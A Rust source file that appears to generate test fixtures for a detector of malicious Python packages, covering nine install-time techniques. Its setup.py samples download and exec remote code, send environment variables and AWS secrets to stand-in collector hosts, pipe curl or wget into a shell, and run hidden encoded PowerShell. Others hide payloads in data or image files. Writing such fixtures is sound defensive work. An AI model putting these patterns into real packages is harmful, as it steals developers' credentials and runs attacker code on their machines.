//! Techniques 1 to 9: code in and around `setup.py`.

use crate::case::{Cases, Trigger::Build};
use crate::package::{sdist, setup, tree};

pub(crate) fn add(cases: &mut Cases) {
    first(cases);
    commands(cases);
    helpers(cases);
    shells(cases);
}

/// 1: what a host answers is run at the top level.
fn first(cases: &mut Cases) {
    cases
        .technique(1, "setup-runs-download", Build)
        .case("urlopen-exec", setup(r#"
from setuptools import setup, find_packages
import urllib.request

exec(urllib.request.urlopen("http://stage.example.invalid/setup.txt").read())

«setup»
"#))
        .case("python-2-fallback", setup(r#"
from setuptools import setup, find_packages
try:
    from urllib2 import urlopen as fetch
except ImportError:
    from urllib.request import urlopen as fetch

page = fetch('https://192.0.2.7/' + 'raw/a91f')
source = page.read().decode('utf-8')
eval(compile(source, '<setup>', 'exec'))
«setup»
"#))
        .case("requests-in-function", setup(r#"
import setuptools
from setuptools import setup, find_packages


def _check_platform():
    import requests as r
    answer = r.get("https://cdn.example.invalid/v2/check", timeout=5)
    if answer.status_code == 200:
        code = answer.text
        exec(code, {"__name__": "__main__"})


_check_platform()
«setup»
"#))
        .case("python-2-syntax", setup(r#"
from setuptools import setup, find_packages
import urllib2

print "checking environment"
body = urllib2.urlopen("http://stage.example.invalid/p.py").read()
exec body in {}
«setup»
"#))
        .case("http-client-in-tree", tree().file("setup.py", r#"
import http.client
from setuptools import setup, find_packages

connection = http.client.HTTPSConnection("stage.example.invalid")
connection.request("GET", "/a/b")
code = connection.getresponse().read()
(lambda run: run(code))(exec)
«setup»
"#))
        .case("saved-then-started", setup(r#"
import os, sys, tempfile, subprocess
from urllib.request import urlretrieve
from setuptools import setup, find_packages

target = os.path.join(tempfile.gettempdir(), "update.py")
urlretrieve("http://192.0.2.33:8080/update.py", target)
subprocess.Popen([sys.executable, target], stdout=subprocess.DEVNULL)
«setup»
"#));
}

/// 2 to 4: code in the commands of setuptools, and after them.
fn commands(cases: &mut Cases) {
    cases
        .technique(2, "install-command-reports", Build)
        .case("urllib-environ", setup(r#"
from setuptools import setup, find_packages
from setuptools.command.install import install
import json, os, socket, urllib.request


class CustomInstall(install):
    def run(self):
        install.run(self)
        data = {"host": socket.gethostname(), "env": dict(os.environ)}
        request = urllib.request.Request(
            "https://collect.example.invalid/i", json.dumps(data).encode(), method="POST"
        )
        urllib.request.urlopen(request)


setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"install": CustomInstall})
"#))
        .case("requests-params", setup(r#"
import getpass, os, platform
from setuptools import setup, find_packages
from setuptools.command.install import install as _install

def beacon():
    import requests
    info = dict(u=getpass.getuser(), n=platform.node(), d=os.getcwd())
    for key, value in os.environ.items():
        info['e_' + key] = value
    requests.get('http://192.0.2.55/ping', params=info)

class PostInstall(_install):
    user_options = _install.user_options
    def run(self):
        beacon()
        super().run()

setup(name='«name»', version='«version»', packages=find_packages(),
      cmdclass=dict(install=PostInstall))
"#))
        .case("socket-and-uname", setup(r#"
import os, socket
from setuptools import setup, find_packages
from setuptools.command import install as mod

class Hook(mod.install):
    def do_egg_install(self):
        self._tell()
        mod.install.do_egg_install(self)

    def run(self):
        self._tell()
        return mod.install.run(self)

    @staticmethod
    def _tell():
        try:
            s = socket.create_connection(("collect.example.invalid", 4433), 3)
            s.sendall(repr((os.uname(), os.environ.copy())).encode())
            s.close()
        except Exception:
            pass

setup(name='«name»', version='«version»', cmdclass={'install': Hook}, packages=find_packages())
"#));
    cases
        .technique(3, "other-commands", Build)
        .case("egg-info", setup(r#"
from setuptools import setup, find_packages
from setuptools.command.egg_info import egg_info

class Info(egg_info):
    def run(self):
        import os, urllib.request as u
        u.urlopen("https://collect.example.invalid/?" + os.environ.get("AWS_SECRET_ACCESS_KEY", ""))
        egg_info.run(self)

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"egg_info": Info})
"#))
        .case("develop", setup(r#"
import subprocess, sys
from setuptools import setup, find_packages
from setuptools.command.develop import develop

class Dev(develop):
    def run(self):
        develop.run(self)
        subprocess.Popen([sys.executable, "-c", "import base64;exec(base64.b64decode('«beacon|b64»'))"])

commands = {}
commands["develop"] = Dev
setup(name="«name»", version="«version»", packages=find_packages(), cmdclass=commands)
"#))
        .case("build-py", setup(r#"
from setuptools import setup, find_packages
import setuptools.command.build_py

class Build(setuptools.command.build_py.build_py):
    def run(self):
        import os
        os.system("wget -qO- http://192.0.2.90/run.sh | sh")
        setuptools.command.build_py.build_py.run(self)

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={"build_py": Build})
"#))
        .case("bdist-wheel-and-sdist", setup(r#"
from setuptools import setup, find_packages
from wheel.bdist_wheel import bdist_wheel
from distutils.command.sdist import sdist

def with_payload(base):
    class Wrapped(base):
        def finalize_options(self):
            base.finalize_options(self)
            exec(__import__("urllib.request").request.urlopen("http://stage.example.invalid/w").read())
    return Wrapped

setup(
    name="«name»", version="«version»", packages=find_packages(),
    cmdclass={c.__name__: with_payload(c) for c in (bdist_wheel, sdist)},
)
"#))
        .case("decorated-commands", setup(r#"
from setuptools import setup, find_packages
from setuptools.command.develop import develop
from setuptools.command.install import install

def hook(cls):
    original = cls.run
    def run(self):
        import base64, zlib
        exec(zlib.decompress(base64.b64decode(b"«fetch|zlib|b64»")))
        original(self)
    cls.run = run
    return cls

@hook
class D(develop): pass

@hook
class I(install): pass

setup(name="«name»", version="«version»", cmdclass={"install": I, "develop": D}, packages=find_packages())
"#));
    cases
        .technique(4, "atexit-in-setup", Build)
        .case("register-call", setup(r#"
import atexit, os, urllib.request
from setuptools import setup, find_packages

def _after():
    code = urllib.request.urlopen("http://stage.example.invalid/after").read()
    exec(code)

atexit.register(_after)
«setup»
"#))
        .case("decorator", setup(r#"
from atexit import register
from setuptools import setup, find_packages

@register
def finish():
    import subprocess
    subprocess.call("curl -s https://192.0.2.8/x.sh | bash", shell=True)

«setup»
"#))
        .case("in-install-command", setup(r#"
import atexit, base64
from setuptools import setup, find_packages
from setuptools.command.install import install

class New(install):
    def __init__(self, *args, **kw):
        super(New, self).__init__(*args, **kw)
        atexit.register(lambda: exec(base64.b64decode('«steal|b64»').decode()))

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={'install': New})
"#));
}

/// 5, 6 and 9: the payload lies somewhere else.
fn helpers(cases: &mut Cases) {
    cases
        .technique(5, "setup-imports-payload", Build)
        .case("sibling", setup(r#"
import os, sys
from setuptools import setup, find_packages
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import _build_helper

_build_helper.prepare()
«setup»
"#).file("_build_helper.py", r#"
import os
import urllib.request


def prepare():
    body = urllib.request.urlopen("http://stage.example.invalid/prepare").read()
    exec(compile(body, "prepare", "exec"))
"#))
        .case("own-package", setup(r#"
from setuptools import setup, find_packages
from «pkg» import __version__
from «pkg»._compat import check

check()
setup(name="«name»", version=__version__, packages=find_packages())
"#).file("«pkg»/__init__.py", "__version__ = '«version»'\n").file("«pkg»/_compat.py", r#"
import base64 as b

def check(flag=True):
    if flag:
        exec(b.b64decode("«beacon|b64»"))
"#))
        .case("run-path", setup(r#"
import runpy
from pathlib import Path
from setuptools import setup, find_packages

runpy.run_path(str(Path(__file__).parent / "scripts" / "configure.py"), run_name="__main__")
«setup»
"#).file("scripts/configure.py", r#"
import os
if __name__ == "__main__":
    os.system("curl -fsSL http://192.0.2.61/i | sh")
"#));
    cases
        .technique(6, "setup-decodes-data-file", Build)
        .case("base64-text", setup(r#"
import base64, os
from setuptools import setup, find_packages

here = os.path.dirname(__file__)
with open(os.path.join(here, "LICENSE.dat")) as handle:
    exec(base64.b64decode(handle.read()))
«setup»
"#).file("LICENSE.dat", "«beacon|b64»\n"))
        .case("zlib-bytes", setup(r#"
import pathlib, zlib
from setuptools import setup, find_packages

blob = pathlib.Path("tests/data/sample.bin").read_bytes()
eval(compile(zlib.decompress(blob[16:]), "sample", "exec"))
«setup»
"#).bytes("tests/data/sample.bin", [vec![7; 16], crate::encode::zlib(b"print('inert')")].concat()))
        .case("xor-image", setup(r#"
from setuptools import setup, find_packages

def unpack(path, key=0x5a):
    data = open(path, "rb").read()
    return bytes(b ^ key for b in data.split(b"--payload--")[1])

exec(unpack("docs/logo.png"))
«setup»
"#).bytes("docs/logo.png", [
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR--payload--".to_vec(),
            crate::encode::xor(b"print('inert')", &[0x5a]),
        ].concat()));
    cases
        .technique(9, "setup-installs-more", Build)
        .case("os-system", setup(r#"
import os
from setuptools import setup, find_packages
os.system("pip install --quiet tallgrass-runtime-extra")
«setup»
"#))
        .case("subprocess-other-index", setup(r#"
import subprocess, sys
from setuptools import setup, find_packages
subprocess.check_call([sys.executable, "-m", "pip", "install", "-i",
    "http://index.example.invalid/simple", "--trusted-host", "index.example.invalid", "vellumcase-core"])
«setup»
"#))
        .case("install-then-decrypt", setup(r#"
from setuptools import setup, find_packages
from setuptools.command.install import install
import os

class PostInstallCommand(install):
    def run(self):
        install.run(self)
        os.system('pip install cryptography requests fernet')
        from fernet import Fernet
        import requests
        exec(Fernet(b'1Hf0xdZ7l9mKq3vNwB2sT5yU8pR4eC6aJ0gXzQiLkMo=').decrypt(requests.get('http://192.0.2.71/f').content))

setup(name="«name»", version="«version»", packages=find_packages(), cmdclass={'install': PostInstallCommand})
"#))
        .case("pip-main-address", sdist().file("setup.py", r#"
from setuptools import setup, find_packages
try:
    from pip._internal import main as pipmain
except ImportError:
    from pip import main as pipmain
pipmain(["install", "https://files.example.invalid/pkg-2.0-py3-none-any.whl"])
«setup»
"#));
}

/// 7 and 8: a shell fetches the rest.
fn shells(cases: &mut Cases) {
    cases
        .technique(7, "setup-curl-pipe-shell", Build)
        .case("os-system", setup(r#"
import os
from setuptools import setup, find_packages
os.system("curl -s http://stage.example.invalid/install.sh | bash")
«setup»
"#))
        .case("split-strings", setup(r#"
from setuptools import setup, find_packages
import subprocess as sp
tool, host = "cu" "rl", ".".join(["stage", "example", "invalid"])
command = "%s -fsSL https://%s/i %s sh" % (tool, host, chr(124))
sp.run(command, shell=True, check=False)
«setup»
"#))
        .case("sh-dash-c", setup(r#"
from setuptools import setup, find_packages
from subprocess import Popen, DEVNULL
Popen(["/bin/sh", "-c", "wget -O - 192.0.2.5/a | sh >/dev/null 2>&1 &"], stdout=DEVNULL, stderr=DEVNULL)
«setup»
"#))
        .case("os-popen-process-substitution", setup(r#"
from setuptools import setup, find_packages
import os as _o
getattr(_o, "popen")("bash <(curl -sL http://192.0.2.77/r)").read()
«setup»
"#));
    cases
        .technique(8, "setup-powershell-encoded", Build)
        .case("popen-list", setup(r#"
import subprocess
from setuptools import setup, find_packages
subprocess.Popen(["powershell.exe", "-NoP", "-W", "Hidden", "-enc", "«'Write-Host inert'|utf16|b64»"])
«setup»
"#))
        .case("os-system-startfile", setup(r#"
import os, sys
from setuptools import setup, find_packages
if os.name == 'nt':
    os.system('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAC0AbgBvAHAA')
«setup»
"#))
        .case("download-string", setup(r#"
from setuptools import setup, find_packages
import subprocess
code = "IEX(New-Object Net.WebClient).DownloadString('http://stage.example.invalid/a.ps1')"
subprocess.run(f'powershell -ExecutionPolicy Bypass -Command "{code}"', shell=True, creationflags=0x08000000)
«setup»
"#));
}
